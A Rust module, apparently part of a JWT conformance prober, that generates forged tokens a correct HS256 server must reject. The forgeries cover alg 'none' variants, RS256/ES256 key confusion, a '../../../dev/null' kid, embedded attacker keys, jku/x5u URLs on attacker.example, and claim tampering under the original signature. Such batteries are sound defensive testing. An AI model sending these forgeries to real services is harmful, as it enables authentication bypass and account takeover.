use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use super::forge::{Signing, b64url, decode_unverified, forge, forge_raw};

/// One token a correct server must refuse, and what makes it wrong.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Attack {
    /// A short sentence: "alg none (lowercase), empty signature".
    pub name: String,
    pub token: String,
}

const YEAR: u64 = 365 * 24 * 3600;

/// Tokens derived from `valid_token`'s claims that every correct HS256 server with key
/// `secret` must refuse: [`without_secret`]'s, then those only the secret's holder can sign.
/// `public_key_der` is any public key the server is known to hold (a TLS certificate's, say):
/// the bytes an algorithm-confusion attack signs with.
pub fn attacks(valid_token: &str, secret: &[u8], public_key_der: &[u8]) -> Vec<Attack> {
    let (_, claims) = decode_unverified(valid_token).unwrap_or((json!({}), json!({})));
    let real = || Signing::Hs256(secret.to_vec());
    let hs256 = |extra: Value| {
        let mut header = json!({ "alg": "HS256", "typ": "JWT" });
        merge(&mut header, extra);
        header
    };
    let mut out = Battery(without_secret(valid_token, public_key_der));

    let typ = |alg: &str| json!({ "alg": alg, "typ": "JWT" });
    out.add(
        "HS384 signed with the real secret",
        forge(&typ("HS384"), &claims, Signing::Hs384(secret.to_vec())),
    );
    out.add(
        "HS512 signed with the real secret",
        forge(&typ("HS512"), &claims, Signing::Hs512(secret.to_vec())),
    );

    out.add(
        "kid pointing elsewhere, signed with the real secret",
        forge(&hs256(json!({ "kid": "attacker-key-1" })), &claims, real()),
    );
    for (member, url) in [
        ("jku", "https://attacker.example/jwks.json"),
        ("x5u", "https://attacker.example/cert.pem"),
    ] {
        out.add(
            format!("{member} header to an attacker URL, signed with the real secret"),
            forge(&hs256(json!({ member: url })), &claims, real()),
        );
    }
    out.add(
        "x5c header with an attacker certificate, signed with the real secret",
        forge(
            &hs256(json!({ "x5c": [STANDARD.encode(public_key_der)] })),
            &claims,
            real(),
        ),
    );
    let jwk = json!({ "jwk": { "kty": "oct", "k": b64url(random_key()) } });
    out.add(
        "jwk header embedding an attacker key, signed with the real secret",
        forge(&hs256(jwk), &claims, real()),
    );
    out.add(
        "alg named twice (none, then HS256), signed with the real secret",
        forge_raw(
            br#"{"alg":"none","alg":"HS256","typ":"JWT"}"#,
            claims.to_string().as_bytes(),
            real(),
        ),
    );
    out.add(
        "crit [\"exp\"] header, signed with the real secret",
        forge(&hs256(json!({ "crit": ["exp"] })), &claims, real()),
    );

    let exp = claims
        .get("exp")
        .and_then(Value::as_u64)
        .unwrap_or_default();
    let iat = claims
        .get("iat")
        .and_then(Value::as_u64)
        .unwrap_or_default();
    for (claim, value) in [("exp", exp), ("iat", iat), ("nbf", iat)] {
        let wrong: [(&str, Option<Value>); 4] = [
            ("a string", Some(json!(value.to_string()))),
            ("null", Some(Value::Null)),
            ("a float", Some(json!(value as f64 + 0.5))),
            ("missing", None),
        ];
        for (what, replacement) in wrong {
            // nbf is optional: a token without one is fine.
            if claim == "nbf" && replacement.is_none() {
                continue;
            }
            let changed = match replacement {
                Some(v) => altered(&claims, claim, v),
                None => removed(&claims, claim),
            };
            out.add(
                format!("{claim} {}, signed with the real secret", as_phrase(what)),
                forge(&hs256(json!({})), &changed, real()),
            );
        }
    }

    if let Some(Value::String(sub)) = claims.get("sub") {
        // The last sub wins in a lax parser, the first in another.
        let body = claims.to_string();
        let doubled = body.replacen(
            '{',
            &format!("{{\"sub\":\"another-dms\",\"sub\":{},", json!(sub)),
            1,
        );
        out.add(
            "sub named twice (another DMS, then the real one), signed with the real secret",
            forge_raw(
                br#"{"alg":"HS256","typ":"JWT"}"#,
                doubled.as_bytes(),
                real(),
            ),
        );
    }
    out.add(
        "wrong audience, signed with the real secret",
        forge(
            &hs256(json!({})),
            &altered(&claims, "aud", json!("attacker.example")),
            real(),
        ),
    );
    out.add(
        "wrong issuer, signed with the real secret",
        forge(
            &hs256(json!({})),
            &altered(&claims, "iss", json!("https://attacker.example/")),
            real(),
        ),
    );
    out.0
}

/// The forgeries anyone holding one valid token can make, with no key of the server's: what
/// `conform probe jwt` sends to a deployment no one here controls.
pub fn without_secret(valid_token: &str, public_key_der: &[u8]) -> Vec<Attack> {
    let (_, claims) = decode_unverified(valid_token).unwrap_or((json!({}), json!({})));
    let original_signature = valid_token.rsplit('.').next().unwrap_or_default();
    let typ = |alg: &str| json!({ "alg": alg, "typ": "JWT" });
    let hs256 = |extra: Value| {
        let mut header = json!({ "alg": "HS256", "typ": "JWT" });
        merge(&mut header, extra);
        header
    };
    let mut out = Battery::default();

    for (alg, casing) in [
        ("none", "lowercase"),
        ("None", "capitalised"),
        ("NONE", "uppercase"),
        ("nOnE", "mixed case"),
    ] {
        let header = json!({ "alg": alg, "typ": "JWT" });
        out.add(
            format!("alg {alg} ({casing}), empty signature"),
            forge(&header, &claims, Signing::None),
        );
        out.add(
            format!("alg {alg} ({casing}), original signature kept"),
            with_signature(&forge(&header, &claims, Signing::None), original_signature),
        );
    }

    let pem = format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
        STANDARD.encode(public_key_der)
    );
    for alg in ["RS256", "ES256"] {
        out.add(
            format!("{alg} header, HMAC over the public key's DER bytes (key confusion)"),
            forge(&typ(alg), &claims, Signing::Hs256(public_key_der.to_vec())),
        );
        out.add(
            format!("{alg} header, HMAC over the public key's PEM text (key confusion)"),
            forge(&typ(alg), &claims, Signing::Hs256(pem.clone().into_bytes())),
        );
        out.add(
            format!("{alg} header, original signature kept"),
            with_signature(
                &forge(&typ(alg), &claims, Signing::None),
                original_signature,
            ),
        );
    }

    out.add(
        "kid ../../../dev/null, signed with an empty key",
        forge(
            &hs256(json!({ "kid": "../../../dev/null" })),
            &claims,
            Signing::Hs256(Vec::new()),
        ),
    );
    let attacker_key = random_key();
    let jwk = json!({ "jwk": { "kty": "oct", "k": b64url(&attacker_key) } });
    out.add(
        "jwk header embedding an attacker key, signed with that key",
        forge(&hs256(jwk.clone()), &claims, Signing::Hs256(attacker_key)),
    );
    // The original header segment, new claims, the original signature.
    let original_header = valid_token.split('.').next().unwrap_or_default();
    let signing_input_of = |claims: &Value| {
        format!(
            "{original_header}.{}.{original_signature}",
            b64url(claims.to_string())
        )
    };
    out.add(
        "sub of another DMS, original signature kept",
        signing_input_of(&altered(&claims, "sub", json!("another-dms"))),
    );
    let exp = claims
        .get("exp")
        .and_then(Value::as_u64)
        .unwrap_or_default();
    out.add(
        "exp pushed a year out, original signature kept",
        signing_input_of(&altered(&claims, "exp", json!(exp + YEAR))),
    );

    out.add(
        "signed with another random key",
        forge(&hs256(json!({})), &claims, Signing::Hs256(random_key())),
    );
    let half = original_signature.len() / 2;
    out.add(
        "signature truncated to half",
        with_signature(valid_token, &original_signature[..half]),
    );
    out.add(
        "signature missing its last character",
        with_signature(
            valid_token,
            &original_signature[..original_signature.len().saturating_sub(1)],
        ),
    );
    out.add("a trailing dot segment", format!("{valid_token}."));
    out.add(
        "a trailing extra segment",
        format!("{valid_token}.{}", b64url("{}")),
    );
    out.0
}

#[derive(Default)]
struct Battery(Vec<Attack>);

impl Battery {
    fn add(&mut self, name: impl Into<String>, token: String) {
        self.0.push(Attack {
            name: name.into(),
            token,
        });
    }
}

fn as_phrase(what: &str) -> String {
    match what {
        "missing" => "missing".into(),
        other => format!("as {other}"),
    }
}

/// `token` with its signature segment replaced by `signature`.
fn with_signature(token: &str, signature: &str) -> String {
    let signing_input = token.rsplit_once('.').map_or(token, |(input, _)| input);
    format!("{signing_input}.{signature}")
}

fn merge(into: &mut Value, extra: Value) {
    if let (Value::Object(into), Value::Object(extra)) = (into, extra) {
        into.extend(extra);
    }
}

fn altered(claims: &Value, name: &str, value: Value) -> Value {
    let mut changed = claims.clone();
    if let Value::Object(map) = &mut changed {
        map.insert(name.to_owned(), value);
    }
    changed
}

fn removed(claims: &Value, name: &str) -> Value {
    let mut changed = claims.clone();
    if let Value::Object(map) = &mut changed {
        map.remove(name);
    }
    changed
}

fn random_key() -> Vec<u8> {
    let mut key = vec![0u8; 32];
    rand::fill(&mut key[..]);
    key
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_battery_names_each_attack_once_and_keeps_the_claims_it_was_given() {
        let secret = b"0123456789abcdef0123456789abcdef";
        let claims = json!({ "sub": "dms-1", "iat": 100, "exp": 200, "aud": "a", "iss": "i" });
        let valid = forge(
            &json!({ "alg": "HS256", "typ": "JWT" }),
            &claims,
            Signing::Hs256(secret.to_vec()),
        );
        let battery = attacks(&valid, secret, b"public key");
        let mut names: Vec<_> = battery.iter().map(|a| a.name.as_str()).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), battery.len());
        assert!(battery.iter().all(|a| a.token != valid));
        let none = &battery[0];
        assert_eq!(none.name, "alg none (lowercase), empty signature");
        assert_eq!(
            decode_unverified(&none.token),
            Some((json!({ "alg": "none", "typ": "JWT" }), claims))
        );
    }

    #[test]
    fn the_battery_without_a_secret_is_a_part_of_the_whole_and_signs_nothing_with_it() {
        let secret = b"0123456789abcdef0123456789abcdef";
        let claims = json!({ "sub": "dms-1", "iat": 100, "exp": 200 });
        let valid = forge(
            &json!({ "alg": "HS256", "typ": "JWT" }),
            &claims,
            Signing::Hs256(secret.to_vec()),
        );
        let blind = without_secret(&valid, b"public key");
        let whole: Vec<_> = attacks(&valid, secret, b"public key")
            .into_iter()
            .map(|a| a.name)
            .collect();
        assert!(!blind.is_empty());
        assert!(blind.iter().all(|a| whole.contains(&a.name)));
        assert!(blind.iter().all(|a| !a.name.contains("real secret")));
    }
}
